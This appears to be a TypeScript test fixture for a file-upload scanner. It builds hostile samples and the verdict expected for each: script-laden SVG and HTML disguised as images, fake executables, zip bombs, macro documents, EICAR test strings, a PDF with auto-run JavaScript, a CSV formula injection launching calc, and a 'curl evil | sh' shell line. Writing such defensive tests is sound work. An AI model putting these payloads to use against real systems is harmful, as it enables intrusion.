import { crc32, deflateSync, gzipSync } from 'node:zlib'
import sharp from 'sharp'
import type { RefusedBecause, SettledState } from '#shared/documents/document.ts'
import { EICAR } from './fake-clamd.ts'
import { aJpeg, aPicture } from './pictures.ts'
import { aDocx, aZip } from './zip.ts'

/** What becomes of it: a refusal with its reason, or what may be shown and what is handed out. */
export type Ends =
  | { state: Exclude<SettledState, 'notScanned'>; reason: string }
  | { state: 'clean'; shows: 'picture' | 'nothing'; as: string }

export type HostileFile = { what: string; bytes: Uint8Array; says: string; ends: Ends }

const text = (content: string) => Buffer.from(content)
const refused = (reason: RefusedBecause): Ends => ({ state: 'refused', reason })
const infected: Ends = { state: 'infected', reason: 'Eicar-Test-Signature' }
const picture = (as = 'image/jpeg'): Ends => ({ state: 'clean', shows: 'picture', as })
const download = (as: string): Ends => ({ state: 'clean', shows: 'nothing', as })
const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'
/** Found in what is served, it would have come through. */
export const PAYLOAD = '<script>alert("got through")</script>'

/** Files people are sent to do harm, and what must become of each; larger ones are refused before they come. */
export async function hostileFiles(): Promise<HostileFile[]> {
  const jpeg = await aJpeg(400, 300)
  const png = await aPicture(200, 150).png().toBuffer()
  const files: [what: string, bytes: Uint8Array, says: string, ends: Ends][] = [
    // Programs in other clothes.
    [
      'an SVG with a script',
      text(`<svg xmlns="http://www.w3.org/2000/svg">${PAYLOAD}</svg>`),
      'image/png',
      refused('typeNotAllowed'),
    ],
    [
      'an SVG after an XML head',
      text(`<?xml version="1.0"?><svg>${PAYLOAD}</svg>`),
      'image/jpeg',
      refused('typeNotAllowed'),
    ],
    ['HTML as a photo', text(`<!doctype html>${PAYLOAD}`), 'image/jpeg', refused('typeNotAllowed')],
    ['HTML as a text', text(`\n <html>${PAYLOAD}`), 'text/plain', refused('typeNotAllowed')],
    [
      'HTML in UTF-16',
      Buffer.from(`\ufeff<html>${PAYLOAD}`, 'utf16le'),
      'text/plain',
      refused('typeNotAllowed'),
    ],
    ['HTML before a PDF', text(`<html>${PAYLOAD}%PDF-1.7\n`), 'application/pdf', refused('typeNotAllowed')],
    ['a shell script', text('#!/bin/sh\ncurl evil | sh\n'), 'text/plain', refused('typeNotAllowed')],
    [
      'a Windows program',
      Buffer.concat([text('MZ'), Buffer.alloc(200)]),
      'image/jpeg',
      refused('typeNotAllowed'),
    ],
    [
      'a Linux program',
      Buffer.concat([Buffer.from([0x7f]), text('ELF'), Buffer.alloc(200)]),
      'application/pdf',
      refused('typeNotAllowed'),
    ],
    ['PostScript', text('%!PS-Adobe-3.0\n'), 'application/pdf', refused('typeNotAllowed')],
    [
      'bytes of nothing known',
      Buffer.from(Array.from({ length: 999 }, (_, at) => (at * 37) & 255)),
      'image/jpeg',
      refused('typeNotAllowed'),
    ],
    ['a text with control characters', text('a\u0000b\u0007'), 'text/csv', refused('typeNotAllowed')],
    // Packed things.
    ['a zip as a letter', aZip([{ name: 'a.exe', content: text('MZ') }]), DOCX, refused('typeNotAllowed')],
    ['a gzip', gzipSync(PAYLOAD), DOCX, refused('typeNotAllowed')],
    ['a zip bomb as a letter', aBomb(), DOCX, refused('broken')],
    ['a letter whose zip is cut off', aDocx().subarray(0, -30), DOCX, refused('broken')],
    [
      'a letter with macros',
      aDocx([{ name: 'word/vbaProject.bin', content: text('x') }]),
      DOCX,
      refused('typeNotAllowed'),
    ],
    [
      'an old letter with macros',
      anOldLetter('_VBA_PROJECT'),
      'application/msword',
      refused('typeNotAllowed'),
    ],
    // Pictures that are none, or too much of one.
    ['a JPEG cut off', jpeg.subarray(0, jpeg.length / 2), 'image/jpeg', refused('broken')],
    [
      'the head of a JPEG',
      Buffer.concat([jpeg.subarray(0, 20), Buffer.alloc(100, 7)]),
      'image/jpeg',
      refused('broken'),
    ],
    ['a PNG cut off', png.subarray(0, png.length / 2), 'image/png', refused('broken')],
    [
      'a GIF that is a script',
      text(`GIF89a/*${'x'.repeat(40)}*/=1;alert(1)`),
      'image/gif',
      refused('broken'),
    ],
    ['sixty megapixels of one colour', await aFlood(10_000, 6000), 'image/png', refused('tooManyPixels')],
    ['a JPEG that says 65,500 by 65,500', saysSize(jpeg, 65_500), 'image/jpeg', refused('tooManyPixels')],
    ['a PNG that says 100,000 by 100,000', aPngHead(100_000), 'image/png', refused('tooManyPixels')],
    // What a scanner finds.
    ['a virus', text(EICAR), 'text/plain', infected],
    ['a virus behind a photo', Buffer.concat([jpeg, text(EICAR)]), 'image/jpeg', infected],
    ['a virus in a letter', aDocx([{ name: 'a', content: text(EICAR), isPacked: false }]), DOCX, infected],
    [
      'an encrypted PDF',
      text('%PDF-1.7\n<< /Encrypt 5 0 R >>'),
      'application/pdf',
      { state: 'cannotBeScanned', reason: 'Heuristics.Encrypted.PDF' },
    ],
    [
      'more than the scanner takes',
      Buffer.concat([jpeg, Buffer.alloc(3 * 1024 * 1024)]),
      'image/jpeg',
      { state: 'cannotBeScanned', reason: 'size limit exceeded' },
    ],
    // Not what its author saw.
    ['a text as a photo', text('Nothing to see.'), 'image/jpeg', refused('notWhatItSays')],
    ['a photo as a PDF', await aJpeg(401, 300), 'application/pdf', refused('notWhatItSays')],
    // Taken, and made harmless.
    [
      'a photo with a zip behind it',
      Buffer.concat([jpeg, aZip([{ name: 'x.html', content: text(PAYLOAD), isPacked: false }])]),
      'image/jpeg',
      picture(),
    ],
    [
      'a photo with a script beside it',
      Buffer.concat([jpeg.subarray(0, 2), aComment(PAYLOAD), jpeg.subarray(2)]),
      'image/jpeg',
      picture(),
    ],
    ['a photo that says it is a PNG', await aJpeg(402, 300), 'image/png', picture()],
    ['a picture that moves', await aMovingPicture(), 'image/gif', picture('image/gif')],
    [
      'a scan of two pages',
      await aJpeg(403, 300).then((one) => sharp(one).tiff().toBuffer()),
      'image/tiff',
      picture('image/tiff'),
    ],
    [
      'a photo in printing colours',
      await aPicture(300, 200).toColourspace('cmyk').jpeg().toBuffer(),
      'image/jpeg',
      picture(),
    ],
    ['sixteen bits, half transparent', await aTransparent(), 'image/png', picture('image/png')],
    ['a photo of an iPhone', aHeic(), 'image/heic', download('image/heic')],
    [
      'a PDF with JavaScript',
      text(
        `%PDF-1.7\n1 0 obj\n<< /OpenAction << /S /JavaScript /JS (app.alert("got through")) >> >>\n${PAYLOAD}`,
      ),
      'application/pdf',
      download('application/pdf'),
    ],
    ['a table with formulas', text('name;amount\n=cmd|"/c calc"!A1;1\n'), 'text/csv', download('text/csv')],
    ['a letter', aDocx(), DOCX, download(DOCX)],
  ]
  return files.map(([what, bytes, says, ends]) => ({ what, bytes, says, ends }))
}

/** Says that it unpacks to far more than anybody writes. */
const aBomb = () =>
  aDocx(
    Array.from({ length: 20 }, (_, at) => ({
      name: `word/media/${at}.bin`,
      content: Buffer.alloc(1000),
      saysBytes: 200 * 1024 * 1024,
    })),
  )

const anOldLetter = (stream: string) =>
  Buffer.concat([
    Buffer.from('d0cf11e0a1b11ae1', 'hex'),
    Buffer.alloc(504),
    Buffer.from('WordDocument', 'utf16le'),
    Buffer.from(stream, 'utf16le'),
    Buffer.alloc(400),
  ])

const aFlood = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 3, background: '#123456' } })
    .png({ compressionLevel: 9 })
    .toBuffer()

/** The same JPEG, saying another size in its frame header. */
function saysSize(jpeg: Buffer, side: number): Buffer {
  const changed = Buffer.from(jpeg)
  const frame = changed.indexOf(Buffer.from([0xff, 0xc0]))
  changed.writeUInt16BE(side, frame + 5)
  changed.writeUInt16BE(side, frame + 7)
  return changed
}

function aPngHead(side: number): Buffer {
  const size = Buffer.alloc(8)
  size.writeUInt32BE(side, 0)
  size.writeUInt32BE(side, 4)
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    chunk('IHDR', Buffer.concat([size, Buffer.from([8, 2, 0, 0, 0])])),
    chunk('IDAT', deflateSync(Buffer.alloc(1000))),
    chunk('IEND', Buffer.alloc(0)),
  ])
}

function chunk(type: string, content: Buffer): Buffer {
  const named = Buffer.concat([Buffer.from(type), content])
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)]
  length.writeUInt32BE(content.length)
  sum.writeUInt32BE(crc32(named))
  return Buffer.concat([length, named, sum])
}

function aComment(content: string): Buffer {
  const head = Buffer.from([0xff, 0xfe, 0, 0])
  head.writeUInt16BE(content.length + 2, 2)
  return Buffer.concat([head, Buffer.from(content)])
}

async function aMovingPicture(): Promise<Buffer> {
  const frames = await Promise.all(
    ['#ff0000', '#00ff00', '#0000ff'].map((background) =>
      sharp({ create: { width: 60, height: 40, channels: 3, background } })
        .png()
        .toBuffer(),
    ),
  )
  return sharp(frames, { join: { animated: true } })
    .gif()
    .toBuffer()
}

const aTransparent = () =>
  sharp({ create: { width: 90, height: 60, channels: 4, background: { r: 9, g: 99, b: 200, alpha: 0.5 } } })
    .toColourspace('rgb16')
    .png()
    .toBuffer()

const aHeic = () =>
  Buffer.concat([
    Buffer.from([0, 0, 0, 24]),
    Buffer.from('ftypheic'),
    Buffer.alloc(4),
    Buffer.from('mif1heic'),
    Buffer.alloc(200),
  ])
